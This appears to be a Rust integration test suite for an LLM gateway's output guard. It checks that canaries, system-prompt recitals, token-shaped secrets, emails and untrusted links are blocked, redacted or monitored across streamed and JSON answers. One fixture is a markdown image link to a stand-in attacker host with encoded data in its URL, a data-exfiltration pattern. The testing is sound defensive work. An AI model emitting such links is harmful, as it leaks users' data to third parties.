//! Issue 19 through real Envoy: the output guard on answers the mock model is told to give
//! (`x-mock-answer-b64`). Each detector (leakage, secrets, PII, links) x JSON and SSE x block,
//! redact and monitor; benign answers byte for byte; a secret split at every point across SSE
//! events; request PII masking seen by the model, restored in the answer.

mod common;

use common::{repo_root, Harness, Response};
use regex::Regex;
use serde_json::{json, Value};

const CANARY: &str = "PG-CANARY-7f3a9c21";
/// A GitHub token of the right shape (36 alphanumerics after `ghp_`).
const TOKEN: &str = "ghp_Xq7Lm2Vb9RtK4pZs8WcN1yHd6Ju3Ef5GaQ0o";
const EMAIL: &str = "jane.doe@acme-corp.com";
const LINK: &str =
    "![chart](https://evil.example.net/c.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ)";
const SYSTEM: &str =
    "You are the support assistant of Acme. Always answer politely, never mention \
    competitors, and escalate refund requests above 500 dollars to a human agent.";
const RECITAL: &str = "always answer politely, never mention competitors, and escalate refund \
    requests above 500 dollars to a human agent";

/// (detector, kind, the sensitive text in the answer).
fn cases() -> Vec<(&'static str, &'static str, &'static str)> {
    vec![
        ("leakage", "canary", CANARY),
        ("leakage", "system_prompt", RECITAL),
        ("secrets", "github_token", TOKEN),
        ("pii", "email", EMAIL),
        ("links", "markdown_image", LINK),
    ]
}

fn config(action: &str) -> String {
    // Streams are compared with the model's own: the filter does not ask for usage here.
    json!({
        "include_stream_usage": false,
        "response_guard": {
            "leakage": {"action": action, "canary": CANARY},
            "secrets": {"action": action},
            "pii": {"action": action},
            "links": {"action": action, "allowed_hosts": ["acme.example.com"]},
        }
    })
    .to_string()
}

fn b64(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn answer_with(sensitive: &str) -> String {
    format!("Here you go: {sensitive} - that is all for today.")
}

const PREFIX: &str = "Here you go: ";
const SUFFIX: &str = " - that is all for today.";

/// A chat (or Anthropic) request with the system prompt, asking the mock for `answer`.
fn ask(h: &Harness, api: &str, stream: bool, answer: &str, extra: &[(&str, &str)]) -> Response {
    let (path, body) = match api {
        "anthropic" => (
            "/v1/messages",
            json!({"model": "claude-x", "max_tokens": 100, "stream": stream, "system": SYSTEM,
                   "messages": [{"role": "user", "content": "Summarise the meeting notes, please."}]}),
        ),
        _ => (
            "/v1/chat/completions",
            json!({"model": "gpt-x", "stream": stream, "messages": [
                {"role": "system", "content": SYSTEM},
                {"role": "user", "content": "Summarise the meeting notes, please."}]}),
        ),
    };
    let a = b64(answer);
    let mut headers = vec![
        ("content-type", "application/json"),
        ("x-mock-answer-b64", a.as_str()),
    ];
    headers.extend_from_slice(extra);
    h.post(path, &headers, body.to_string().as_bytes())
}

/// The answer text of a JSON or SSE answer (chat or Anthropic).
fn text_of(r: &Response) -> String {
    let body = r.text();
    if !r
        .header("content-type")
        .unwrap_or("")
        .starts_with("text/event-stream")
    {
        let v = r.json();
        return v["choices"][0]["message"]["content"]
            .as_str()
            .or(v["content"][0]["text"].as_str())
            .unwrap_or_else(|| panic!("no text: {v}"))
            .to_string();
    }
    let mut text = String::new();
    for ev in body.split("\n\n") {
        for line in ev.lines() {
            let Some(d) = line.strip_prefix("data: ") else {
                continue;
            };
            let Ok(v) = serde_json::from_str::<Value>(d) else {
                continue;
            };
            if let Some(t) = v["choices"][0]["delta"]["content"]
                .as_str()
                .or(v["delta"]["text"].as_str())
            {
                text.push_str(t);
            }
        }
    }
    text
}

/// The mock's answer with the per-request parts (ids, timestamps) made equal.
fn normalised(body: &[u8]) -> String {
    let s = String::from_utf8_lossy(body);
    let s = Regex::new(r#""id":"[^"]*""#)
        .unwrap()
        .replace_all(&s, "\"id\":\"x\"");
    let s = Regex::new(r#""created":\d+"#)
        .unwrap()
        .replace_all(&s, "\"created\":0");
    s.into_owned()
}

/// The same request sent to the mock directly (no Envoy, no guard).
fn direct(h: &Harness, api: &str, stream: bool, answer: &str) -> Vec<u8> {
    let (path, body) = match api {
        "anthropic" => (
            "/v1/messages",
            json!({"model": "claude-x", "max_tokens": 100, "stream": stream, "system": SYSTEM,
                   "messages": [{"role": "user", "content": "Summarise the meeting notes, please."}]}),
        ),
        _ => (
            "/v1/chat/completions",
            json!({"model": "gpt-x", "stream": stream, "messages": [
                {"role": "system", "content": SYSTEM},
                {"role": "user", "content": "Summarise the meeting notes, please."}]}),
        ),
    };
    let url = format!("http://127.0.0.1:{}{}", h.model_port, path);
    let r = ureq::post(&url)
        .set("content-type", "application/json")
        .set("x-mock-answer-b64", &b64(answer))
        .send_bytes(body.to_string().as_bytes())
        .unwrap();
    let mut out = Vec::new();
    std::io::Read::read_to_end(&mut r.into_reader(), &mut out).unwrap();
    out
}

fn metrics(h: &Harness) -> String {
    h.admin("/stats/prometheus")
}

fn metric(text: &str, series: &str) -> f64 {
    text.lines()
        .find_map(|l| {
            l.strip_prefix(series)?
                .strip_prefix(' ')?
                .trim()
                .parse()
                .ok()
        })
        .unwrap_or(0.0)
}

fn schema() -> jsonschema::Validator {
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(repo_root().join("schemas/audit-v2.schema.json")).unwrap(),
    )
    .unwrap();
    jsonschema::validator_for(&schema).expect("schema compiles")
}

/// The last audit event, checked against the v2 schema.
fn last_event(h: &Harness, n: usize) -> Value {
    let events = h.wait_audit_events(n);
    assert!(events.len() >= n, "{} audit events, want {n}", events.len());
    let v = events[n - 1].clone();
    let errors: Vec<String> = schema().iter_errors(&v).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "audit event invalid: {errors:?}\n{v}");
    v
}

#[test]
fn benign_answers_pass_byte_for_byte() {
    let h = Harness::start(&config("block"));
    let mut n = 0;
    for api in ["chat", "anthropic"] {
        for stream in [false, true] {
            for answer in [
                "Plain answer with caf\u{e9}, \u{4e2d}\u{6587}, a link to https://acme.example.com/docs and the number 42.",
                "",
                "x",
            ] {
                let r = ask(&h, api, stream, answer, &[]);
                n += 1;
                assert_eq!(r.status, 200, "{api} {stream}: {}", r.text());
                let want = direct(&h, api, stream, answer);
                assert_eq!(
                    normalised(&r.body),
                    normalised(&want),
                    "{api} stream={stream} {answer:?}"
                );
                let e = last_event(&h, n);
                assert_eq!(e["response"]["decision"], "allowed", "{e}");
            }
        }
    }
    // Histograms show after Envoy's stats flush (5 s).
    std::thread::sleep(std::time::Duration::from_millis(5500));
    let m = metrics(&h);
    assert_eq!(
        metric(
            &m,
            "promptgate_response_decisions_total{decision=\"allowed\"}"
        ),
        n as f64,
        "{m}"
    );
    // Streams record the time to their first event (6 streams).
    assert_eq!(
        metric(&m, "promptgate_time_to_first_token_ms_count{}"),
        6.0,
        "{m}"
    );
}

#[test]
fn every_detector_redacts_in_json_and_sse() {
    let h = Harness::start(&config("redact"));
    let mut n = 0;
    for (detector, kind, sensitive) in cases() {
        for api in ["chat", "anthropic"] {
            for stream in [false, true] {
                let r = ask(&h, api, stream, &answer_with(sensitive), &[]);
                n += 1;
                assert_eq!(r.status, 200, "{detector} {api} {stream}: {}", r.text());
                let text = text_of(&r);
                assert_eq!(
                    text,
                    format!("{PREFIX}[REDACTED:{kind}]{SUFFIX}"),
                    "{detector} {api} stream={stream}"
                );
                assert!(!r.text().contains(sensitive), "{detector}: {}", r.text());
                if stream && api == "chat" {
                    assert!(r.text().ends_with("data: [DONE]\n\n"), "{}", r.text());
                }
                let e = last_event(&h, n);
                assert_eq!(e["response"]["decision"], "redacted", "{e}");
                let f = &e["response"]["findings"][0];
                assert_eq!(
                    (
                        f["detector"].as_str(),
                        f["kind"].as_str(),
                        f["action"].as_str()
                    ),
                    (Some(detector), Some(kind), Some("redact")),
                    "{e}"
                );
            }
        }
    }
    let m = metrics(&h);
    let hits = metric(
        &m,
        "promptgate_guard_hits_total{type=\"github_token\",detector=\"secrets\",action=\"redact\"}",
    );
    assert_eq!(hits, 4.0, "{m}");
}

#[test]
fn every_detector_blocks_in_json_and_sse() {
    let h = Harness::start(&config("block"));
    let mut n = 0;
    for (detector, kind, sensitive) in cases() {
        for api in ["chat", "anthropic"] {
            for stream in [false, true] {
                let r = ask(&h, api, stream, &answer_with(sensitive), &[]);
                n += 1;
                let body = r.text();
                assert!(
                    !body.contains(sensitive),
                    "{detector} {api} {stream}: {body}"
                );
                if stream {
                    assert_eq!(r.status, 200);
                    assert!(body.contains("response_blocked"), "{body}");
                    assert!(body.ends_with("data: [DONE]\n\n"), "{body}");
                    // Nothing of the answer after the block.
                    assert!(!body.contains("all for today"), "{body}");
                } else {
                    assert_eq!(r.status, 403, "{detector} {api}: {body}");
                    assert_eq!(r.json()["error"]["code"], "response_blocked", "{body}");
                    assert_eq!(
                        r.header("content-length")
                            .map(|l| l.parse::<usize>().unwrap()),
                        Some(r.body.len())
                    );
                }
                let e = last_event(&h, n);
                assert_eq!(e["response"]["decision"], "blocked", "{e}");
                assert_eq!(e["response"]["findings"][0]["kind"], kind, "{e}");
            }
        }
    }
    let m = metrics(&h);
    assert_eq!(
        metric(
            &m,
            "promptgate_response_decisions_total{decision=\"blocked\"}"
        ),
        n as f64
    );
}

#[test]
fn a_200_refusal_instead_of_an_error() {
    let cfg = json!({"response_guard": {"block_status": 200, "secrets": {"action": "block"}}});
    let h = Harness::start(&cfg.to_string());
    let r = ask(&h, "chat", false, &answer_with(TOKEN), &[]);
    assert_eq!(r.status, 200, "{}", r.text());
    let v = r.json();
    assert_eq!(v["choices"][0]["finish_reason"], "content_filter", "{v}");
    assert!(!r.text().contains(TOKEN));
    assert_eq!(v["object"], "chat.completion");
}

#[test]
fn every_detector_monitors_without_changing_a_byte() {
    let h = Harness::start(&config("monitor"));
    let mut n = 0;
    for (detector, kind, sensitive) in cases() {
        for api in ["chat", "anthropic"] {
            for stream in [false, true] {
                let answer = answer_with(sensitive);
                let r = ask(&h, api, stream, &answer, &[]);
                n += 1;
                assert_eq!(r.status, 200);
                assert_eq!(
                    normalised(&r.body),
                    normalised(&direct(&h, api, stream, &answer)),
                    "{detector} {api} {stream}"
                );
                let e = last_event(&h, n);
                assert_eq!(e["response"]["decision"], "monitored", "{e}");
                let f = &e["response"]["findings"][0];
                assert_eq!(
                    (
                        f["detector"].as_str(),
                        f["kind"].as_str(),
                        f["action"].as_str()
                    ),
                    (Some(detector), Some(kind), Some("monitor"))
                );
            }
        }
    }
    let m = metrics(&h);
    assert_eq!(
        metric(
            &m,
            "promptgate_guard_hits_total{type=\"email\",detector=\"pii\",action=\"monitor\"}"
        ),
        4.0,
        "{m}"
    );
}

/// The secret cut at every byte offset (one cut, then the cut and the next byte), each piece its
/// own SSE event: never released, always redacted.
#[test]
fn a_secret_split_at_every_point_across_events() {
    let h = Harness::start(&config("redact"));
    let answer = answer_with(TOKEN);
    let start = PREFIX.len();
    for cut in start..=start + TOKEN.len() {
        for points in [
            format!("{cut}"),
            format!("{},{}", cut, cut + 1),
            format!("3,{cut}"),
        ] {
            for api in ["chat", "anthropic"] {
                let r = ask(&h, api, true, &answer, &[("x-mock-split-at", &points)]);
                assert_eq!(r.status, 200);
                assert_eq!(
                    text_of(&r),
                    format!("{PREFIX}[REDACTED:github_token]{SUFFIX}"),
                    "{api} cut at {points}"
                );
                assert!(!r.text().contains(TOKEN));
            }
        }
    }
    // And in pieces of every size.
    for size in 1..=12 {
        let r = ask(
            &h,
            "chat",
            true,
            &answer,
            &[("x-mock-chunk-bytes", &size.to_string())],
        );
        assert_eq!(
            text_of(&r),
            format!("{PREFIX}[REDACTED:github_token]{SUFFIX}"),
            "size {size}"
        );
    }
}

/// Request PII is masked before the model sees it and restored in the answer.
#[test]
fn request_pii_is_masked_for_the_model_and_restored_in_the_answer() {
    let cfg = json!({"response_guard": {
        "pii": {"enabled": false},
        "request_pii_masking": {"enabled": true, "restore": true},
    }});
    let h = Harness::start(&cfg.to_string());
    for stream in [false, true] {
        let body = json!({"model": "gpt-x", "stream": stream, "messages": [
            {"role": "user", "content": format!("Please write to {EMAIL} about my order.")}]});
        let a = b64("I will write to [EMAIL_1] today.");
        let r = h.post(
            "/v1/chat/completions",
            &[
                ("content-type", "application/json"),
                ("x-mock-answer-b64", &a),
            ],
            body.to_string().as_bytes(),
        );
        assert_eq!(r.status, 200, "{}", r.text());
        let seen = h.upstream_requests();
        let last = seen["requests"].as_array().unwrap().last().unwrap().clone();
        let sent = last["body"].as_str().unwrap();
        assert!(!sent.contains(EMAIL), "the model saw the address: {sent}");
        assert!(sent.contains("[EMAIL_1]"), "{sent}");
        assert_eq!(
            text_of(&r),
            format!("I will write to {EMAIL} today."),
            "stream={stream}"
        );
    }
    let e = last_event(&h, 2);
    assert!(
        e["rewrites"]
            .as_array()
            .unwrap()
            .contains(&json!("pii_masked")),
        "{e}"
    );
    assert_eq!(e["response"]["masked_values"], 1, "{e}");
    assert_eq!(e["response"]["decision"], "restored", "{e}");
}

/// GenAI names: token usage and stream timings under the OpenTelemetry names.
#[test]
fn gen_ai_metric_names() {
    let cfg = json!({"gen_ai_metric_names": true, "response_guard": {}});
    let h = Harness::start(&cfg.to_string());
    let body = json!({"model": "gpt-x", "stream": true, "stream_options": {"include_usage": true},
                      "messages": [{"role": "user", "content": "hi"}]});
    let r = h.post(
        "/v1/chat/completions",
        &[("content-type", "application/json")],
        body.to_string().as_bytes(),
    );
    assert_eq!(r.status, 200);
    last_event(&h, 1);
    // Histograms show after Envoy's stats flush (5 s).
    std::thread::sleep(std::time::Duration::from_millis(5500));
    let m = metrics(&h);
    for series in [
        "gen_ai_server_time_to_first_token_count{}",
        "gen_ai_server_time_per_output_token_count{}",
        "gen_ai_server_request_duration_count{}",
        "gen_ai_client_token_usage_count{model=\"gpt-x\",type=\"output\"}",
    ] {
        assert_eq!(metric(&m, series), 1.0, "{series}\n{m}");
    }
}

/// What the model says besides its answer text, as JSON answers: (name, body) with `s` in a
/// tool call's arguments, a refusal, reasoning / thinking text.
fn side_channel_json(s: &str) -> Vec<(&'static str, String)> {
    let args = json!({"to": "ops@acme.example.com", "body": s}).to_string();
    vec![
        (
            "chat tool_calls",
            json!({"id": "c1", "object": "chat.completion", "model": "gpt-x",
            "choices": [{"index": 0, "message": {"role": "assistant", "content": null,
            "tool_calls": [{"id": "call_1", "type": "function", "function": {"name": "send_mail",
            "arguments": args}}]}, "finish_reason": "tool_calls"}]}),
        ),
        (
            "chat refusal",
            json!({"id": "c1", "object": "chat.completion", "model": "gpt-x",
            "choices": [{"index": 0, "message": {"role": "assistant", "content": null,
            "refusal": s}, "finish_reason": "stop"}]}),
        ),
        (
            "chat reasoning_content",
            json!({"id": "c1", "object": "chat.completion",
            "model": "gpt-x", "choices": [{"index": 0, "message": {"role": "assistant",
            "content": "Done.", "reasoning_content": s}, "finish_reason": "stop"}]}),
        ),
        (
            "anthropic thinking",
            json!({"id": "m1", "type": "message", "role": "assistant",
            "content": [{"type": "thinking", "thinking": s, "signature": "c2ln"},
            {"type": "text", "text": "Done."}], "stop_reason": "end_turn"}),
        ),
        (
            "anthropic tool_use",
            json!({"id": "m1", "type": "message", "role": "assistant",
            "content": [{"type": "tool_use", "id": "t1", "name": "send_mail",
            "input": {"to": "ops@acme.example.com", "body": s}}], "stop_reason": "tool_use"}),
        ),
        (
            "responses function_call",
            json!({"id": "r1", "object": "response",
            "status": "completed", "output": [{"type": "function_call", "id": "fc",
            "call_id": "c", "name": "send_mail", "arguments": args}]}),
        ),
        (
            "responses refusal",
            json!({"id": "r1", "object": "response", "status": "completed",
            "output": [{"type": "message", "role": "assistant",
            "content": [{"type": "refusal", "refusal": s}]}]}),
        ),
        (
            "responses reasoning",
            json!({"id": "r1", "object": "response", "status": "completed",
            "output": [{"type": "reasoning", "id": "rs", "summary": [{"type": "summary_text",
            "text": s}]}, {"type": "message", "role": "assistant",
            "content": [{"type": "output_text", "text": "Done."}]}]}),
        ),
    ]
    .into_iter()
    .map(|(n, v)| (n, v.to_string()))
    .collect()
}

/// The same as streams, `s` cut in three pieces (one cut inside the token).
fn side_channel_sse(s: &str) -> Vec<(&'static str, String)> {
    let cut1 = s.find("ghp_").map_or(s.len() / 3, |i| i + 7);
    let cut2 = (cut1 + 11).min(s.len());
    let pieces = [&s[..cut1], &s[cut1..cut2], &s[cut2..]];
    let data = |v: Value| format!("data: {v}\n\n");
    let named = |v: Value| format!("event: {}\ndata: {v}\n\n", v["type"].as_str().unwrap());
    let chat = |field: &str| {
        let mut out = String::new();
        let first = if field == "tool_calls" {
            json!({"role": "assistant", "content": null, "tool_calls": [{"index": 0,
                "id": "call_1", "type": "function", "function": {"name": "send_mail",
                "arguments": ""}}]})
        } else {
            json!({"role": "assistant", "content": null})
        };
        out += &data(json!({"id": "c1", "object": "chat.completion.chunk",
            "choices": [{"index": 0, "delta": first, "finish_reason": null}]}));
        for p in pieces {
            let delta = if field == "tool_calls" {
                json!({"tool_calls": [{"index": 0, "function": {"arguments": p}}]})
            } else {
                json!({ field: p })
            };
            out += &data(json!({"id": "c1", "object": "chat.completion.chunk",
                "choices": [{"index": 0, "delta": delta, "finish_reason": null}]}));
        }
        out += &data(json!({"id": "c1", "object": "chat.completion.chunk",
            "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}));
        out + "data: [DONE]\n\n"
    };
    let anthropic = |block: &str| {
        let start = if block == "thinking" {
            json!({"type": "thinking", "thinking": ""})
        } else {
            json!({"type": "tool_use", "id": "t1", "name": "send_mail", "input": {}})
        };
        let mut out = named(json!({"type": "message_start", "message": {"id": "m1"}}));
        out += &named(json!({"type": "content_block_start", "index": 0, "content_block": start}));
        for p in pieces {
            let delta = if block == "thinking" {
                json!({"type": "thinking_delta", "thinking": p})
            } else {
                json!({"type": "input_json_delta", "partial_json": p})
            };
            out += &named(json!({"type": "content_block_delta", "index": 0, "delta": delta}));
        }
        out += &named(json!({"type": "content_block_stop", "index": 0}));
        out + &named(json!({"type": "message_stop"}))
    };
    let responses = |delta: &str, done: Value, item: Value| {
        let mut out = named(json!({"type": "response.created", "response": {"id": "r1"}}));
        for p in pieces {
            out += &named(json!({"type": delta, "output_index": 0, "content_index": 0,
                "summary_index": 0, "item_id": "x", "delta": p}));
        }
        out += &named(done);
        out += &named(
            json!({"type": "response.output_item.done", "output_index": 0,
            "item": item}),
        );
        out + &named(
            json!({"type": "response.completed", "response": {"id": "r1",
            "status": "completed", "output": [item]}}),
        )
    };
    vec![
        ("chat tool_calls", chat("tool_calls")),
        ("chat refusal", chat("refusal")),
        ("chat reasoning_content", chat("reasoning_content")),
        ("anthropic thinking", anthropic("thinking")),
        ("anthropic tool_use", anthropic("tool_use")),
        (
            "responses function_call",
            responses(
                "response.function_call_arguments.delta",
                json!({"type": "response.function_call_arguments.done", "output_index": 0,
                "item_id": "fc", "arguments": s}),
                json!({"type": "function_call", "id": "fc", "call_id": "c", "name": "send_mail",
                "arguments": s}),
            ),
        ),
        (
            "responses refusal",
            responses(
                "response.refusal.delta",
                json!({"type": "response.refusal.done", "output_index": 0, "content_index": 0,
                "item_id": "m", "refusal": s}),
                json!({"type": "message", "id": "m", "role": "assistant",
                "content": [{"type": "refusal", "refusal": s}]}),
            ),
        ),
        (
            "responses reasoning",
            responses(
                "response.reasoning_summary_text.delta",
                json!({"type": "response.reasoning_summary_text.done", "output_index": 0,
                "summary_index": 0, "item_id": "rs", "text": s}),
                json!({"type": "reasoning", "id": "rs",
                "summary": [{"type": "summary_text", "text": s}]}),
            ),
        ),
    ]
}

/// Asks the mock for exactly `body` (`x-mock-body-b64`), streamed or not.
fn ask_raw(h: &Harness, stream: bool, body: &str) -> Response {
    let req = json!({"model": "gpt-x", "stream": stream, "messages": [
        {"role": "system", "content": SYSTEM},
        {"role": "user", "content": "Mail the deploy notes to ops, please."}]});
    let raw = b64(body);
    h.post(
        "/v1/chat/completions",
        &[
            ("content-type", "application/json"),
            ("x-mock-body-b64", raw.as_str()),
        ],
        req.to_string().as_bytes(),
    )
}

/// Issue 19: tool-call arguments, refusals and reasoning / thinking text are read like the
/// answer text (OpenAI chat, Responses API, Anthropic; JSON and SSE): a token in them is redacted
/// or blocks the answer, and each benign twin passes byte for byte.
#[test]
fn tool_calls_refusals_and_reasoning_are_guarded() {
    let secret = answer_with(TOKEN);
    let benign = answer_with("the deploy went fine");
    let token_parts = [&TOKEN[..7], &TOKEN[7..18], &TOKEN[18..]];
    for action in ["redact", "block"] {
        let h = Harness::start(&config(action));
        let mut n = 0;
        for stream in [false, true] {
            let (bad, good) = if stream {
                (side_channel_sse(&secret), side_channel_sse(&benign))
            } else {
                (side_channel_json(&secret), side_channel_json(&benign))
            };
            for ((name, bad), (_, good)) in bad.iter().zip(&good) {
                let what = format!("{action} {name} stream={stream}");
                let r = ask_raw(&h, stream, good);
                n += 1;
                assert_eq!(r.status, 200, "{what}: {}", r.text());
                assert_eq!(r.text(), *good, "{what}: the benign twin changed");
                assert_eq!(
                    last_event(&h, n)["response"]["decision"],
                    "allowed",
                    "{what}"
                );

                let r = ask_raw(&h, stream, bad);
                n += 1;
                let out = r.text();
                for part in token_parts {
                    assert!(!out.contains(part), "{what}: {part} came out: {out}");
                }
                let e = last_event(&h, n);
                assert_eq!(
                    e["response"]["findings"][0]["kind"], "github_token",
                    "{what}: {e}"
                );
                if action == "redact" {
                    assert_eq!(r.status, 200, "{what}: {out}");
                    assert!(out.contains("[REDACTED:github_token]"), "{what}: {out}");
                    assert_eq!(e["response"]["decision"], "redacted", "{what}: {e}");
                    if !stream {
                        let _: Value = serde_json::from_str(&out).expect("still JSON");
                    }
                } else {
                    assert_eq!(e["response"]["decision"], "blocked", "{what}: {e}");
                    assert!(out.contains("response_blocked"), "{what}: {out}");
                    assert_eq!(r.status, if stream { 200 } else { 403 }, "{what}: {out}");
                    if stream {
                        assert!(out.ends_with("data: [DONE]\n\n"), "{what}: {out}");
                    }
                }
            }
        }
    }
}

/// Issue 19: a JSON answer above `max_json_bytes` is not scanned. By default it is withheld
/// (padding must not carry a secret past the guard); `unscanned: allow` lets it pass. Both
/// audited with `response.note: too_large`.
#[test]
fn answers_too_large_to_scan_fail_closed_unless_allowed() {
    let ask_big = |h: &Harness| {
        // 20 000 mock tokens ("tok0 tok1 ..."): about 130 KB of JSON.
        h.post(
            "/v1/chat/completions",
            &[
                ("content-type", "application/json"),
                ("x-mock-completion-tokens", "20000"),
            ],
            json!({"model": "gpt-x", "messages": [{"role": "user", "content": "Count."}]})
                .to_string()
                .as_bytes(),
        )
    };
    let h = Harness::start(&json!({"response_guard": {"max_json_bytes": 65536}}).to_string());
    let r = ask_big(&h);
    assert_eq!(r.status, 403, "{}", r.text());
    let v = r.json();
    assert_eq!(v["error"]["code"], "response_blocked", "{v}");
    assert!(v["error"]["message"]
        .as_str()
        .unwrap()
        .contains("too_large"));
    assert!(!r.text().contains("tok19999"));
    let e = last_event(&h, 1);
    assert_eq!(e["response"]["decision"], "blocked", "{e}");
    assert_eq!(e["response"]["note"], "too_large", "{e}");
    // Under the limit it is scanned as usual.
    let small = h.post_json(
        "/v1/chat/completions",
        &json!({"model": "gpt-x", "messages": [{"role": "user", "content": "Hi."}]}),
    );
    assert_eq!(small.status, 200);
    assert_eq!(last_event(&h, 2)["response"]["decision"], "allowed");
    drop(h);

    let h = Harness::start(
        &json!({"response_guard": {"max_json_bytes": 65536, "unscanned": "allow"}}).to_string(),
    );
    let r = ask_big(&h);
    assert_eq!(r.status, 200);
    assert!(r.text().contains("tok19999") && r.body.len() > 100_000);
    let e = last_event(&h, 1);
    assert_eq!(e["response"]["decision"], "unscanned", "{e}");
    assert_eq!(e["response"]["note"], "too_large", "{e}");
}
